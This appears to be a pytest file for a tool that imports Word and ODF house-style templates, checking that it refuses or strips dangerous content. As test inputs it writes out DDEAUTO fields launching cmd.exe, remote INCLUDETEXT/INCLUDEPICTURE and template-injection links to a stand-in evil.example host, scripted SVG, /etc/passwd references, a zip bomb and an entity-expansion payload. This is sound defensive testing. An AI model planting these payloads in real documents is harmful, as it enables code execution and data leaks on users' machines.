"""House styles from elsewhere: what they may bring into a document, and that no file takes all memory or time."""

import bz2
import io
import re
import struct
import tracemalloc
import zipfile
from collections.abc import Callable, Mapping
from functools import cache
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from convenant_cli.documents.writers.office import docx, odt
from convenant_cli.documents.writers.office.huisstijl import house_style, standard
from convenant_cli.documents.writers.office.zipped import pack, unpack
from convenant_cli.findings import ConvenantError
from tests.documents.test_office import check_odt, document, words
from tests.grondig import pairs
from tests.word_package import R, W, check_docx

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)
SPACES = (
    f'xmlns:w="{W[1:-1]}" xmlns:r="{R[1:-1]}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main"'
)
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SETTINGS = "word/settings.xml"
RELS = "word/_rels/document.xml.rels"
NUMBERS = standard(".docx")["word/numbering.xml"]
SHEET = standard(".docx")["word/styles.xml"]
BLIP = '<w:p><w:r><w:drawing><a:blip r:embed="rId1"/></w:drawing></w:r></w:p>'


def relations(*each: tuple[str, str, str] | tuple[str, str, str, str]) -> bytes:
    """Return a part with relations, each an id, a kind, a target, and for another place its mode."""
    lines = "".join(
        f'<Relationship Id="{id}" Type="{kind if ":" in kind else f"{OFFICE}/{kind}"}" Target="{target}"'
        + (f' TargetMode="{mode[0]}"/>' if mode else "/>")
        for id, kind, target, *mode in each
    )
    return f'<Relationships xmlns="{RELATIONS}">{lines}</Relationships>'.encode()


def header(content: str) -> bytes:
    return f"<w:hdr {SPACES}>{content}</w:hdr>".encode()


def word(**changed: bytes) -> dict[str, bytes]:
    """Return the shipped Word style with other parts."""
    return standard(".docx") | changed


def with_header(content: str, *related: tuple[str, ...], **more: bytes) -> dict[str, bytes]:
    parts = standard(".docx") | {"word/header1.xml": header(content)}
    if related:
        parts["word/_rels/header1.xml.rels"] = relations(*related)  # type: ignore[arg-type]
    return parts | more


def replaced(suffix: str, name: str, old: str, new: str) -> dict[str, bytes]:
    parts = standard(suffix)
    assert old.encode() in parts[name]
    return parts | {name: parts[name].replace(old.encode(), new.encode())}


def read(folder: Path, suffix: str, parts: dict[str, bytes] | bytes) -> dict[str, bytes]:
    path = folder / f"stijl{suffix}"
    path.write_bytes(pack(parts) if isinstance(parts, dict) else parts)
    return house_style(suffix, path, None)


def refusal(folder: Path, suffix: str, parts: dict[str, bytes] | bytes) -> str:
    with pytest.raises(ConvenantError) as refused:
        read(folder, suffix, parts)
    said = str(refused.value)
    assert f"{folder / 'stijl'}{suffix} " in said
    assert "\n" not in said
    return said


# --- fields in a header of Word -------------------------------------------------------------------------------------


def field(code: str, result: str = "1") -> str:
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    text = f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
    return f"{char.format('begin')}{text}{char.format('separate')}<w:r><w:t>{result}</w:t></w:r>{char.format('end')}"


def cut(code: str) -> str:
    """Return a field whose code stands in runs of one letter."""
    return field("</w:instrText></w:r><w:r><w:instrText xml:space='preserve'>".join(code))


BEGIN, END = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
CODE = "<w:r><w:instrText>{}</w:instrText></w:r>"


DOES_MORE = [
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
    " ddeauto excel x",
    "DDE excel x",
    "INCLUDETEXT &quot;\\\\\\\\evil.example\\\\x&quot;",
    "INCLUDEPICTURE &quot;https://evil.example/p.png&quot; \\\\d",
    "INCLUDE x",
    "IMPORT x",
    "LINK Excel.Sheet.8 x",
    "AUTOTEXT x",
    "AUTOTEXTLIST x",
    "MACROBUTTON x y",
    "GOTOBUTTON x y",
    "EMBED Package",
    "DATABASE x",
    "RD x",
    "QUOTE 68 68 69",
    "ASK x y",
    "FILLIN x",
    "SET x y",
    "ADDIN x",
    "CONTROL Forms.x",
    "PRINT x",
    "BARCODE x",
    "HYPERLINK &quot;file:///c:/x.exe&quot;",
    "HYPERLINK &quot;\\\\\\\\evil.example\\\\x&quot;",
    "HYPERLINK javascript:x()",
    "HYPERLINK",
]
IN_SHAPE: dict[str, Callable[[str], str]] = dict(
    zip(
        ["field", "cut in letters", "simple", "no result", "no end", "in a result", "in a code"],
        [
            field,
            cut,
            lambda code: f'<w:fldSimple w:instr="{code}"/>',
            lambda code: BEGIN + CODE.format(code) + END,
            lambda code: BEGIN + CODE.format(code),
            lambda code: field("PAGE", f"</w:t></w:r>{field(code)}<w:r><w:t>"),
            lambda code: f"{BEGIN}{CODE.format('IF ')}{field(code)}{CODE.format(' = 1')}{END}",
        ],
        strict=True,
    )
)


@pytest.mark.parametrize(("code", "shape"), pairs(DOES_MORE, [*IN_SHAPE]))
def test_a_field_that_does_more_than_show_is_refused(tmp_path: Path, shape: str, code: str) -> None:
    if shape == "cut in letters" and "&quot;" in code:
        code = code.replace("&quot;", "")
    said = refusal(tmp_path, ".docx", with_header(f"<w:p>{IN_SHAPE[shape](code)}</w:p>"))
    assert "de koptekst heeft een veld dat niet mee kan" in said


@pytest.mark.parametrize(
    "content",
    [
        field(""),
        CODE.format("DDEAUTO x"),
        f"{BEGIN}{field('QUOTE 68 68 69', 'DDE')}{CODE.format('AUTO x')}{END}",
        f"{BEGIN}{CODE.format('DDE')}{BEGIN}{CODE.format('PAGE')}{END}{CODE.format('AUTO x')}{END}",
        f'{BEGIN}{CODE.format("PAGE")}<w:r><w:fldChar w:fldCharType="separate"/></w:r>{CODE.format("DDEAUTO x")}{END}',
        f"<w:txbxContent><w:p>{field('DDEAUTO x')}</w:p></w:txbxContent>",
        f"{BEGIN}{CODE.format('DDEAUTO x').replace('instrText', 'delInstrText')}{END}",
        f"{BEGIN}{CODE.format('&#9;DDEAUTO x')}{END}",
        f"{BEGIN}{CODE.format('PAGE<w:x>DDEAUTO x</w:x>')}{END}",
    ],
    ids=[
        "empty",
        "code alone",
        "name from a field",
        "around a field",
        "behind the result",
        "text box",
        "deleted",
        "tab",
        "inside an element",
    ],
)
def test_a_field_in_a_hidden_place_is_found(tmp_path: Path, content: str) -> None:
    assert "een veld dat niet mee kan" in refusal(tmp_path, ".docx", with_header(f"<w:p>{content}</w:p>"))


@pytest.mark.parametrize(
    "code",
    [
        " PAGE ", "PAGE\\* MERGEFORMAT", "NUMPAGES \\# 0", "DATE \\@ &quot;d MMMM yyyy&quot;", "TITLE", "=1+1",
        "styleref &quot;Kop 1&quot;", "DOCPROPERTY Titel", "FILENAME", "SECTIONPAGES",
        "HYPERLINK &quot;https://www.gemeente.example&quot;",
        "HYPERLINK &quot;mailto:info@gemeente.example&quot; \\o &quot;Mail ons&quot;",
    ],
)  # fmt: skip
def test_a_field_that_shows_something_goes_on(tmp_path: Path, code: str) -> None:
    made = read(tmp_path, ".docx", with_header(f"<w:p>{field(code)}</w:p>"))
    assert any(b"instrText" in raw for name, raw in made.items() if "header" in name)


# --- relations, pictures, objects -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("parts", "told"),
    [
        (with_header(BLIP, ("rId1", "image", "https://evil.example/p.png", "External")), "van buiten het bestand"),
        (with_header(BLIP, ("rId1", "image", "\\\\evil.example\\p.png", "external")), "van buiten het bestand"),
        (with_header(BLIP.replace("embed", "link"), ("rId1", "image", "file:///c:/p.png", "External")), "van buiten"),
        (with_header(BLIP, ("rId1", "image", "media/weg.png")), "een plaatje dat er niet is"),
        (with_header(BLIP), "iets dat er niet is (rId1)"),
        (with_header(BLIP, ("rId1", "oleObject", "embeddings/a.bin")), "(oleObject)"),
        (with_header(BLIP, ("rId1", "package", "embeddings/a.xlsx")), "(package)"),
        (with_header(BLIP, ("rId1", "control", "activeX/a.xml")), "(control)"),
        (with_header(BLIP, ("rId1", "aFChunk", "a.html")), "(aFChunk)"),
        (with_header(BLIP, ("rId1", "chart", "charts/a.xml")), "(chart)"),
        (with_header(BLIP, ("rId1", "subDocument", "a.docx", "External")), "(subDocument)"),
        (with_header(BLIP, ("rId1", "urn:x/webextension", "a.xml")), "(webextension)"),
        (with_header(BLIP, ("rId1", "hyperlink", "file://evil.example/a", "External")), "geen webadres"),
        (with_header(BLIP, ("rId1", "hyperlink", "ms-word:ofe|u|https://evil.example", "External")), "geen webadres"),
        (with_header('<w:p><v:imagedata src="https://evil.example/p.png"/></w:p>'), "van buiten het bestand"),
        (with_header('<w:p><v:fill o:althref="https://evil.example/p.png"/></w:p>'), "van buiten het bestand"),
        (with_header('<w:p><v:shape href="file:///c:/x.exe"/></w:p>'), "geen webadres"),
        (with_header("<w:p><w:object/></w:p>"), "een ingesloten object"),
        (with_header('<w:p><o:OLEObject Type="Link"><o:FieldCodes>x</o:FieldCodes></o:OLEObject></w:p>'), "ingesloten"),
        (with_header("<w:p><w:binData>AA</w:binData></w:p>"), "een ingesloten object"),
        (with_header('<w:p><s:fldSimple xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main"/></w:p>'), "Strict"),
        (with_header('<w:p xmlns:s="http://purl.oclc.org/ooxml/officeDocument/relationships" s:embed="a"/>'), "Strict"),
        (word(**{"word/numbering.xml": NUMBERS.replace(b"<w:num ", b"<w:pict src='//evil.example/p'/><w:num ", 1)}),
         "van buiten het bestand"),
        (word(**{"word/vbaProject.bin": b"x"}), "macro's"),
        (word(**{"WORD/VBAPROJECT.BIN": b"x"}), "macro's"),
    ],
)  # fmt: skip
def test_what_fetches_or_runs_is_refused_by_its_name(tmp_path: Path, parts: dict[str, bytes], told: str) -> None:
    assert told in refusal(tmp_path, ".docx", parts)


@pytest.mark.parametrize(
    "drawing",
    [
        "<script>x()</script>",
        '<image href="https://evil.example/p.png"/>',
        '<image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="//evil.example/p.png"/>',
        '<rect onload="x()"/>',
        "<foreignObject/>",
        "<style>@import 'https://evil.example'</style>",
        '<rect style="fill: url(https://evil.example/a)"/>',
        '<rect fill="url(//evil.example/a)"/>',
        '<image href="data:image/svg+xml;base64,AA"/>',
        '<animate attributeName="href" to="https://evil.example"/>',
    ],
)
def test_a_drawing_that_fetches_or_runs_is_refused(tmp_path: Path, drawing: str) -> None:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg">{drawing}</svg>'.encode()
    parts = with_header(BLIP, ("rId1", "image", "media/a.svg"), **{"word/media/a.svg": svg})
    assert "tekening (SVG) die iets uitvoert of ophaalt" in refusal(tmp_path, ".docx", parts)
    assert "tekening (SVG)" in refusal(tmp_path, ".odt", odf_picture("Pictures/a.svg") | {"Pictures/a.svg": svg})


def test_what_nobody_sees_stays_behind(tmp_path: Path) -> None:
    remote = "https://evil.example/t.dotm"
    settings = standard(".docx")[SETTINGS].replace(
        b"<w:zoom",
        b'<w:attachedTemplate xmlns:r="%s" r:id="rId1"/><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge><w:zoom'
        % R[1:-1].encode(),
    )
    related = standard(".docx")[RELS].replace(
        b"</Relationships>",
        f'<Relationship Id="rId90" Type="{OFFICE}/customXml" Target="../customXml/item1.xml"/>'
        f'<Relationship Id="rId91" Type="{OFFICE}/frame" Target="{remote}" TargetMode="External"/>'
        "</Relationships>".encode(),
    )
    parts = word(
        **{
            SETTINGS: settings,
            RELS: related,
            "word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", remote, "External")),
            "customXml/item1.xml": b"<a>geheim</a>",
            "customUI/customUI.xml": b'<customUI onLoad="x"/>',
            "word/glossary/document.xml": b"<a/>",
            "docProps/thumbnail.jpeg": b"x",
            "word/afbeelding.exe": b"MZ",
        }
    )
    style = tmp_path / "stijl.docx"
    style.write_bytes(pack(parts))
    made = unpack(docx.write(document("<p>x</p>"), style))
    check_docx(made)
    for name, raw in made.items():
        assert b"evil.example" not in raw, name
        assert b"geheim" not in raw
        assert b"mailMerge" not in raw
        assert b"attachedTemplate" not in raw
    assert not {name for name in made if re.search("custom(XML|UI)|glossary|thumb|exe$", name, re.IGNORECASE)}


# --- ODF ------------------------------------------------------------------------------------------------------------


def odf(content: str) -> dict[str, bytes]:
    """Return the shipped ODF style with something more in its first header."""
    parts = standard(".odt")
    styles = parts["styles.xml"].replace(b"<style:header>", f"<style:header>{content}".encode(), 1)
    assert styles != parts["styles.xml"]
    spaces = (
        b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        b'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
        b'xmlns:xforms="http://www.w3.org/2002/xforms" xmlns:eigen="urn:eigen" office:version='
    )
    return parts | {"styles.xml": styles.replace(b"office:version=", spaces, 1)}


def odf_picture(address: str) -> dict[str, bytes]:
    return odf(
        '<text:p><draw:frame svg:width="2cm" svg:height="1cm">'
        f'<draw:image xlink:type="simple" xlink:href="{address}"/></draw:frame></text:p>'
    )


@pytest.mark.parametrize(
    ("parts", "told"),
    [
        (odf_picture("https://evil.example/p.png"), "van buiten het bestand"),
        (odf_picture("file:///etc/passwd"), "van buiten het bestand"),
        (odf_picture("../../etc/passwd"), "van buiten het bestand"),
        (odf_picture("//evil.example/p.png"), "van buiten het bestand"),
        (odf_picture("Pictures/weg.png"), "van buiten het bestand"),
        (odf_picture("styles.xml"), "tekening (SVG)"),
        (odf_picture("mimetype"), "onbekende soort"),
        (odf('<text:p><text:a xlink:href="vnd.sun.star.script:x">x</text:a></text:p>'), "verwijst naar"),
        (odf('<text:p><text:a xlink:href="file:///c:/x.exe">x</text:a></text:p>'), "verwijst naar"),
        (odf('<text:p><text:a xlink:href="#a"><office:event-listeners/></text:a></text:p>'), "een macro"),
        (odf('<text:p><text:a xlink:href="#a"><script:event-listener/></text:a></text:p>'), "een macro"),
        (odf('<text:p><text:execute-macro text:name="x"/></text:p>'), "een macro"),
        (odf("<text:p><text:script>x</text:script></text:p>"), "een programma"),
        (odf('<text:p><draw:object xlink:href="./Object 1"/></text:p>'), "een ingesloten object"),
        (odf('<text:p><draw:object-ole xlink:href="./Object 1"/></text:p>'), "een ingesloten object"),
        (odf('<text:p><draw:applet xlink:href="x"/></text:p>'), "een programma"),
        (odf('<text:p><draw:plugin xlink:href="x"/></text:p>'), "een invoegtoepassing"),
        (odf('<text:p><draw:floating-frame xlink:href="https://evil.example"/></text:p>'), "een venster"),
        (odf('<text:section text:name="a"><text:section-source xlink:href="x"/></text:section>'), "uit een ander"),
        (odf('<text:section text:name="a"><office:dde-source/></text:section>'), "(DDE)"),
        (odf("<text:dde-connection-decls/>"), "(DDE)"),
        (odf('<text:p><text:dde-connection text:connection-name="x"/></text:p>'), "(DDE)"),
        (odf("<text:p><text:database-display/></text:p>"), "(database-display)"),
        (odf("<office:forms><form:form/></office:forms>"), "(forms)"),
        (odf('<text:p><draw:control draw:control="x"/></text:p>'), "een knop"),
        (odf("<text:p><office:annotation/></text:p>"), "(annotation)"),
        (odf('<text:p><text:bibliography-mark xlink:href="x"/></text:p>'), "(bibliography-mark)"),
    ],
)  # fmt: skip
def test_what_fetches_or_runs_in_odf_is_refused_by_its_name(tmp_path: Path, parts: dict[str, bytes], told: str) -> None:
    assert told in refusal(tmp_path, ".odt", parts)


def test_what_nobody_sees_in_odf_stays_behind(tmp_path: Path) -> None:
    parts = odf("<text:p>wij<eigen:iets>weg</eigen:iets> blijven</text:p>") | {
        "Basic/Standard/Module1.xml": b"<a/>",
        "Scripts/python/x.py": b"x",
        "Dialogs/x.xlb": b"x",
        "Configurations2/accelerator/current.xml": b"<a/>",
        "Object 1/content.xml": b"<a/>",
        "settings.xml": b"<a>macro</a>",
        "META-INF/documentsignatures.xml": b"<a/>",
        "Thumbnails/thumbnail.png": PNG,
    }
    style = tmp_path / "stijl.odt"
    style.write_bytes(pack(parts))
    raw = odt.write(document("<p>x</p>"), style)
    check_odt(raw)
    made = unpack(raw)
    assert set(made) == {"mimetype", "content.xml", "styles.xml", "settings.xml", "meta.xml", "META-INF/manifest.xml"}
    assert made["settings.xml"] == standard(".odt")["settings.xml"]
    assert "wij blijven" in list(words(ET.fromstring(made["styles.xml"])))


# --- what is right, or nearly -----------------------------------------------------------------------------------------


def moved(old: str, new: str, target: str) -> dict[str, bytes]:
    """Return the shipped Word style with its first header under another name and target."""
    parts = replaced(".docx", RELS, 'Target="header1.xml"', f'Target="{target}"')
    parts[new] = parts.pop(old)
    return parts


def _other_main() -> dict[str, bytes]:
    parts = replaced(".docx", "_rels/.rels", "word/document.xml", "word/document2.xml")
    parts["word/document2.xml"] = parts.pop("word/document.xml")
    parts["word/_rels/document2.xml.rels"] = parts.pop(RELS)
    return parts


def _without(*names: str) -> dict[str, bytes]:
    return {name: raw for name, raw in standard(".docx").items() if name not in names}


H1 = "word/header1.xml"
WELL: dict[str, Callable[[], dict[str, bytes]]] = {
    "absolute target": lambda: moved(H1, H1, "/word/header1.xml"),
    "target in this folder": lambda: moved(H1, H1, "./header1.xml"),
    "target through a folder": lambda: moved(H1, H1, "../word/./header1.xml"),
    "other capitals": lambda: moved(H1, "word/Header1.xml", "HEADER1.xml"),
    "a space as a code": lambda: moved(H1, "word/header 1.xml", "header%201.xml"),
    "another folder": lambda: moved(H1, "koppen/a.xml", "../koppen/a.xml"),
    "backslashes": lambda: moved(H1, "word\\header1.xml", "header1.xml"),
    "another main part": _other_main,
    "no relations of the package": lambda: _without("_rels/.rels"),
    "no settings": lambda: _without(SETTINGS),
    "no numbering": lambda: _without("word/numbering.xml"),
    "no font table": lambda: _without("word/fontTable.xml"),
    "no properties": lambda: _without("docProps/core.xml", "docProps/app.xml"),
    "margins in cm": lambda: replaced(".docx", "word/document.xml", 'w:left="1247"', 'w:left="2.5cm"'),
    "paper in mm": lambda: replaced(".docx", "word/document.xml", 'w:w="11906"', 'w:w="210mm"'),
    "margins with decimals": lambda: replaced(".docx", "word/document.xml", 'w:left="1247"', 'w:left="1247.4"'),
    "a mark at the start": lambda: (
        standard(".docx") | {"word/styles.xml": b"\xef\xbb\xbf" + standard(".docx")["word/styles.xml"]}
    ),
    "another prefix": lambda: (
        standard(".docx") | {H1: standard(".docx")[H1].replace(b"w:", b"x:").replace(b"xmlns:w=", b"xmlns:x=")}
    ),
    "a declaration in small letters": lambda: replaced(
        ".docx", "word/styles.xml", 'encoding="UTF-8"', 'encoding="utf-8"'
    ),
    "no declaration": lambda: replaced(
        ".docx", "word/styles.xml", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', ""
    ),
    "a macro-free template": lambda: replaced(".docx", "[Content_Types].xml", "document.main", "template.main"),
}


@pytest.mark.parametrize("make", WELL.values(), ids=WELL)
def test_a_house_style_written_otherwise_works(tmp_path: Path, make: Callable[[], dict[str, bytes]]) -> None:
    style = tmp_path / "STIJL.DOCX"
    style.write_bytes(pack(make()))
    made = unpack(docx.write(document("<p>x</p>", versie="2", status="vastgesteld"), style))
    check_docx(made)
    heads = [list(words(ET.fromstring(raw))) for name, raw in made.items() if re.fullmatch(r"word/header\d\.xml", name)]
    assert ["Jaarplan 2026\tversie 2 · vastgesteld"] in heads


@pytest.mark.parametrize("kind", ["png", "jpeg", "gif", "svg", "emf"])
def test_a_picture_of_the_file_itself_goes_on(tmp_path: Path, kind: str) -> None:
    picture = {
        "png": PNG,
        "jpeg": b"\xff\xd8\xff\xe0" + b"x" * 20,
        "gif": b"GIF89a" + b"x" * 20,
        "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(#a)"/></svg>',
        "emf": b"\x01\0\0\0" + b"x" * 36 + b" EMF" + b"x" * 20,
    }[kind]
    style = tmp_path / "stijl.docx"
    link = ("rId2", "hyperlink", "https://www.gemeente.example", "External")
    content = f'{BLIP}<w:p><w:hyperlink r:id="rId2"><w:r><w:t>www</w:t></w:r></w:hyperlink></w:p>'
    style.write_bytes(
        pack(
            with_header(content, ("rId1", "image", f"/word/media/a.{kind}"), link, **{f"word/media/a.{kind}": picture})
        )
    )
    made = unpack(docx.write(document("<p>x</p>"), style))
    check_docx(made)
    assert picture in made.values()
    assert any(
        b"https://www.gemeente.example" in raw for name, raw in made.items() if name.endswith("header1.xml.rels")
    )
    style = tmp_path / "stijl.odt"
    style.write_bytes(pack(odf_picture("./Pictures/een%20logo.x") | {"Pictures/een logo.x": picture}))
    raw = odt.write(document("<p>x</p>"), style)
    check_odt(raw)
    assert picture in unpack(raw).values()


def test_the_own_house_style_is_found_however_its_name_is_capitalised(tmp_path: Path) -> None:
    mine = replaced(".docx", H1, "versie {{versie}}", "van ons huis")
    (tmp_path / "Huisstijl.DOCX").write_bytes(pack(mine))
    made = unpack(docx.write(document("<p>x</p>", own=tmp_path)))
    assert any(b"van ons huis" in raw for raw in made.values())


def _strict() -> dict[str, bytes]:
    old, new = b"http://schemas.openxmlformats.org/officeDocument/2006/", b"http://purl.oclc.org/ooxml/officeDocument/"
    return {name: raw.replace(old, new) for name, raw in standard(".docx").items()}


@pytest.mark.parametrize(
    ("make", "told"),
    [
        (_strict, "Strict Open XML"),
        (lambda: _without(H1), "een koptekst ontbreekt"),
        (lambda: replaced(".docx", RELS, 'Id="rId6"', 'Id="rId66"'), "een koptekst ontbreekt"),
        (lambda: replaced(".docx", RELS, "relationships/header", "relationships/footer"), "een koptekst ontbreekt"),
        (lambda: replaced(".docx", "word/document.xml", 'w:left="1247"', 'w:left="veel"'), "geen maat"),
        (lambda: replaced(".docx", "word/document.xml", 'w:left="1247"', 'w:left="9999999999"'), "te groot"),
        (lambda: replaced(".docx", "word/document.xml", 'w:left="1247"', f'w:left="{"9" * 400}"'), "te groot"),
        (lambda: replaced(".docx", "word/document.xml", 'w:left="1247"', 'w:left="12000"'), "geen ruimte voor tekst"),
        (lambda: replaced(".docx", "word/document.xml", 'w:w="11906"', 'w:w="0"'), "geen ruimte voor tekst"),
        (lambda: replaced(".docx", "word/styles.xml", 'encoding="UTF-8"', 'encoding="off"'), "geen gaaf"),
        (lambda: replaced(".docx", "word/styles.xml", 'encoding="UTF-8"', 'encoding="utf-7"'), "geen gaaf"),
        (lambda: replaced(".docx", "word/styles.xml", 'encoding="UTF-8"', 'encoding="cp037"'), "geen gaaf"),
        (lambda: replaced(".docx", "word/styles.xml", 'encoding="UTF-8"', 'encoding="iso-8859-1"'), "geen gaaf"),
        (lambda: replaced(".docx", "word/styles.xml", "<w:styles", "<!DOCTYPE w:styles><w:styles"), "geen gaaf"),
        (lambda: word(**{"word/styles.xml": SHEET.decode().encode("utf-16")}), "geen gaaf"),
        (lambda: replaced(".docx", "word/numbering.xml", 'w:abstractNumId="', 'w:abstractNumId="x'), "geen gaaf"),
        (lambda: replaced(".docx", "word/styles.xml", 'w:sz w:val="20"', 'w:sz w:val="x"'), "geen gaaf"),
        (lambda: replaced(".docx", "word/styles.xml", 'w:sz w:val="20"', f'w:sz w:val="{"9" * 400}"'), "geen gaaf"),
        (lambda: replaced(".docx", "word/styles.xml", 'w:after="', 'w:after="+'), "geen gaaf"),
        (lambda: _without("word/styles.xml"), "alleen de naam eindigt zo"),
        (lambda: standard(".odt"), "alleen de naam eindigt zo"),
        (lambda: _without("word/document.xml"), "alleen de naam eindigt zo"),
    ],
)  # fmt: skip
def test_a_house_style_that_cannot_work_is_told_in_a_sentence(
    tmp_path: Path, make: Callable[[], dict[str, bytes]], told: str
) -> None:
    assert told in refusal(tmp_path, ".docx", make())


@pytest.mark.parametrize("size", ["20.0", "10pt", "0.353cm"])
def test_a_measure_with_a_unit_or_a_fraction_is_as_word_writes_it(tmp_path: Path, size: str) -> None:
    made = read(tmp_path, ".docx", replaced(".docx", "word/styles.xml", 'w:sz w:val="20"', f'w:sz w:val="{size}"'))
    assert made["word/styles.xml"].count(b'<w:sz w:val="20"') == standard(".docx")["word/styles.xml"].count(
        b'sz w:val="20"'
    )


@pytest.mark.parametrize("size", ["1.2.3pt", "..pt", ".pt", "pt"])
def test_a_size_in_odf_that_is_none_is_passed_over(tmp_path: Path, size: str) -> None:
    style = tmp_path / "huisstijl.odt"
    style.write_bytes(pack(replaced(".odt", "styles.xml", 'font-size="10pt"', f'font-size="{size}"')))
    check_odt(odt.write(document("<p>x</p>"), style))
    style.write_bytes(pack(replaced(".odt", "styles.xml", 'fo:margin-left="2.2cm"', 'fo:margin-left="2.2.2cm"')))
    check_odt(odt.write(document("<p>x</p>"), style))


# --- bounds -----------------------------------------------------------------------------------------------------------


def styles(content: str) -> bytes:
    return f'<w:styles xmlns:w="{W[1:-1]}">{content}</w:styles>'.encode()


def many(form: str, count: int) -> str:
    return "".join(form.format(n) for n in range(count))


def _entities() -> bytes:
    inside = ["aaaaaaaaaa", *(f"&a{n};" * 10 for n in range(8))]
    steps = (f"<!ENTITY a{n} '{text}'>" for n, text in enumerate(inside))
    return f"<!DOCTYPE a [{''.join(steps)}]><a>&a8;</a>".encode()


BIG: dict[str, tuple[Callable[[], bytes], str]] = {
    "elements": (lambda: styles("<w:a/>" * 600_000), "te ingewikkeld"),
    "nested": (lambda: styles("<w:a>" * 20_000 + "</w:a>" * 20_000), "te ingewikkeld"),
    "attributes": (lambda: styles("<w:a " + many("a{}='' ", 600_000) + "/>"), "te ingewikkeld"),
    "prefixes": (lambda: styles("<w:a " + many("xmlns:a{0}='urn:{0}' ", 5_000) + "/>"), "geen gaaf"),
    "prefixes one by one": (lambda: styles(many("<w:a xmlns:a{0}='urn:{0}'/>", 5_000)), "geen gaaf"),
    "entities": (_entities, "geen gaaf"),
}


@pytest.mark.parametrize("suffix", [".docx", ".odt"])
@pytest.mark.parametrize(("content", "told"), BIG.values(), ids=BIG)
def test_a_part_that_would_take_too_much_is_refused_before_it_is_built(
    tmp_path: Path, suffix: str, content: Callable[[], bytes], told: str
) -> None:
    name = "word/styles.xml" if suffix == ".docx" else "styles.xml"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        for part, raw in (standard(suffix) | {name: content()}).items():
            file.writestr(part, raw)
    assert told in refusal(tmp_path, suffix, packed.getvalue())


#: More than may be in memory at the moment that it is refused.
BOMB = 160_000_000


@cache
def zeros(kind: int) -> bytes:
    """Return a package with one part that is a bomb; packing it is what takes time."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", kind) as file, file.open("word/styles.xml", "w") as part:
        for _ in range(BOMB // 1_000_000):
            part.write(bytes(1_000_000))
    return packed.getvalue()


def packed_zeros(said: int | None, kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a package with a part of many zeros, that says it has another size."""
    raw = zeros(kind)
    return raw if said is None else raw.replace(struct.pack("<I", BOMB), struct.pack("<I", said))


def stored(parts: Mapping[str, bytes]) -> bytes:
    """Return a package of which the parts can be read, and changed, in its own bytes."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_STORED) as file:
        for name, raw in parts.items():
            file.writestr(name, raw)
    return packed.getvalue()


@pytest.mark.parametrize(
    ("make", "told"),
    [
        (lambda: packed_zeros(None), "groter dan 50 MB"),
        (lambda: packed_zeros(1_000), "geen gaaf"),
        (lambda: packed_zeros(0), "geen gaaf"),
        (lambda: packed_zeros(None, zipfile.ZIP_BZIP2), "geen gaaf"),
        (lambda: packed_zeros(1_000, zipfile.ZIP_LZMA), "geen gaaf"),
        (lambda: pack({f"a{n}": b"" for n in range(3_000)}), "te veel onderdelen"),
        (lambda: stored({"word/styles.xml": bytes(19_000_000)})[:-22] + bytes(2_000_000), "groter dan 20 MB"),
        (lambda: bz2.compress(b"x" * 100), "geen gaaf"),
        (lambda: b"PK\x05\x06" + bytes(18), "alleen de naam eindigt zo"),
        (lambda: pack(standard(".docx"))[:-30], "geen gaaf"),
        (lambda: stored(standard(".docx")).replace(b"<w:style ", b"<w:stile ", 1), "geen gaaf"),
        (lambda: b"", "geen gaaf"),
    ],
    ids=["bomb", "lies", "says nothing", "bzip2", "lzma", "many parts", "large", "no zip", "empty zip", "cut off",
         "wrong sum", "empty"],
)  # fmt: skip
def test_a_package_is_bounded_by_what_comes_out_of_it(tmp_path: Path, make: Callable[[], bytes], told: str) -> None:
    raw = make()
    tracemalloc.start()
    try:
        assert told in refusal(tmp_path, ".docx", raw)
        assert tracemalloc.get_traced_memory()[1] < BOMB - 10_000_000
    finally:
        tracemalloc.stop()


def test_a_pointer_of_git_lfs_is_told_as_that(tmp_path: Path) -> None:
    raw = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 24680\n"
    for suffix in (".docx", ".odt"):
        assert "'git lfs pull'" in refusal(tmp_path, suffix, raw)
        (tmp_path / "templates").mkdir(exist_ok=True)
        (tmp_path / f"templates/huisstijl{suffix}").write_bytes(raw)
        with pytest.raises(ConvenantError, match="git lfs pull"):
            house_style(suffix, None, tmp_path / "templates")
